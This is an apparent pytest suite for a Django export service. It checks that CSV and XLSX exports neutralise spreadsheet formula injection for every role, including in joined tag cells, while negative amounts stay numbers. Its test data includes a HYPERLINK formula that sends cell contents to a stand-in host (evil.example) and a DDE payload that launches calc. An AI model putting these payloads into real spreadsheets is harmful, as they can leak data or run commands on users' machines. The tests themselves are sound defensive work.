"""Formula injection: every text cell of an export that a spreadsheet would run
as a formula (starting with ``=``, ``+``, ``-``, ``@``, tab or CR) is
neutralised, in CSV and XLSX, for machines and for people, for every role;
lists joined into one cell (tags) are guarded after joining and part by part;
negative numbers in number columns stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.utils import translation
from openpyxl import load_workbook

from guanxi.commerce.models import Order
from guanxi.customers.models import Tag
from guanxi.exports.models import ExportRecord
from guanxi.exports.services import export_write, spreadsheet_joined
from guanxi.exports.writers import _WRITERS

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Stands for a text cell of a typed workbook (never run, whatever it holds).
TEXT_CELL = object()
#: The roles that may export (the service role may not: a test of its own).
ROLES = ("admin", "operations", "account_manager", "analyst")


@pytest.fixture
def world(users: dict[str, Any], make_customer: Any) -> dict[str, Any]:
    customer = make_customer(
        name=ATTACKS[0],
        phone="+8613900139000",
        city=ATTACKS[2],
        assigned_manager=users["account_manager"],
        first_seen_at=dt.datetime(2025, 3, 1, tzinfo=dt.UTC),
    )
    # "" first: the joined cell then starts with the separator, and a
    # spreadsheet splitting at ";" would make the next tag a cell of its own.
    customer.tags.set([Tag.objects.create(name=name) for name in ATTACKS])
    Order.objects.create(
        source="pos",
        external_id="@R-1",
        customer=customer,
        ordered_at=dt.datetime(2025, 4, 2, tzinfo=dt.UTC),
        amount=Decimal("12.50"),
        store="+店",
        channel="store",
        status="refunded",
    )
    return users


def _export(actor: Any, kind: str, fmt: str, for_people: bool) -> list[list[Any]]:
    record = ExportRecord.objects.create(
        actor=actor,
        actor_label=actor.username,
        kind=kind,
        format=fmt,
        for_people=for_people,
        status=ExportRecord.Status.RUNNING,
    )
    with translation.override("en"):
        if fmt == "csv":
            out: Any = io.StringIO()
            export_write(record=record, actor=actor, out=out)
            return list(csv.reader(io.StringIO(out.getvalue())))
        binary = io.BytesIO()
        export_write(record=record, actor=actor, out=binary)
    binary.seek(0)
    sheet = load_workbook(binary).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    if for_people:
        # Typed cells: text is a text cell, which a spreadsheet never runs,
        # so it needs no apostrophe; only its type is checked.
        assert all(
            cell.data_type == "s"
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        )
        header, *body = [[c.value for c in row] for row in sheet.iter_rows()]
        return [header] + [
            [TEXT_CELL if isinstance(v, str) else v for v in row] for row in body
        ]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _dangerous(rows: list[list[Any]], *, amount_column: int | None) -> list[Any]:
    """Text cells a spreadsheet would run, and text parts after a split at ";"."""
    found = []
    for row in rows[1:]:
        for index, value in enumerate(row):
            if not isinstance(value, str) or index == amount_column:
                continue
            for part in [value, *value.split(";")[1:], *value.split("; ")[1:]]:
                if part.startswith(STARTS):
                    found.append(value)
    return found


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("for_people", [False, True])
def test_customer_exports_neutralise_every_formula(
    world: dict[str, Any], role: str, fmt: str, for_people: bool
) -> None:
    rows = _export(world[role], "customers", fmt, for_people)
    if role != "analyst" and role != "service":
        assert len(rows) == 2
    assert _dangerous(rows, amount_column=None) == []


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("for_people", [False, True])
def test_order_exports_keep_amounts_as_numbers(
    world: dict[str, Any], role: str, fmt: str, for_people: bool
) -> None:
    rows = _export(world[role], "orders", fmt, for_people)
    if len(rows) < 2:
        pytest.skip("this role sees no orders")
    header = rows[0]
    amount = header.index("Amount" if for_people else "amount")
    assert _dangerous(rows, amount_column=amount) == []
    number = rows[1][amount]
    if fmt == "csv":
        assert number == "12.50"
    else:
        assert number == 12.5 and isinstance(number, float)
    order_no = header.index("Order no." if for_people else "external_id")
    expected = TEXT_CELL if fmt == "xlsx" and for_people else "'@R-1"
    assert rows[1][order_no] == expected


def test_tags_are_guarded_after_joining_and_part_by_part() -> None:
    assert spreadsheet_joined(["VIP", "老客户"], ";") == "VIP;老客户"
    assert spreadsheet_joined(["", "=1+1"], ";") == ";'=1+1"
    assert spreadsheet_joined(["-2+3", "ok"], "; ") == "'-2+3; ok"
    assert spreadsheet_joined(["ok", "@SUM(A1)"], "; ") == "ok; '@SUM(A1)"


def test_a_machine_csv_of_customers_holds_the_tags_exactly_guarded(
    world: dict[str, Any],
) -> None:
    rows = _export(world["admin"], "customers", "csv", False)
    tags = rows[1][rows[0].index("tags")]
    assert sorted(tags.split(";")) == sorted("'" + attack for attack in ATTACKS)


@pytest.mark.parametrize("for_people", [False, True])
def test_negative_numbers_in_number_columns_stay_numbers(for_people: bool) -> None:
    """Orders hold no negative amount (a check constraint), but the writers
    must not turn one into text: ``-12.50`` in the amount column stays a
    number while ``-2+3`` in a text column is guarded."""
    columns = ["amount", "store"]
    amount: Any = Decimal("-12.50") if for_people else "-12.50"
    rows = [{"amount": amount, "store": "-2+3"}]
    text = io.StringIO()
    _WRITERS["csv"](text, columns, iter(rows), for_people)
    assert list(csv.reader(io.StringIO(text.getvalue())))[1] == ["-12.50", "'-2+3"]
    binary = io.BytesIO()
    with translation.override("en"):
        _WRITERS["xlsx"](binary, columns, iter(rows), for_people)
    binary.seek(0)
    sheet = load_workbook(binary).active
    amount_cell, store_cell = list(sheet.iter_rows())[1]
    assert amount_cell.value == -12.5 and amount_cell.data_type == "n"
    assert store_cell.data_type == "s"
    assert store_cell.value == ("-2+3" if for_people else "'-2+3")


def test_the_service_role_may_not_export(world: dict[str, Any]) -> None:
    from guanxi.core.errors import PermissionDenied

    with pytest.raises(PermissionDenied):
        _export(world["service"], "customers", "csv", False)
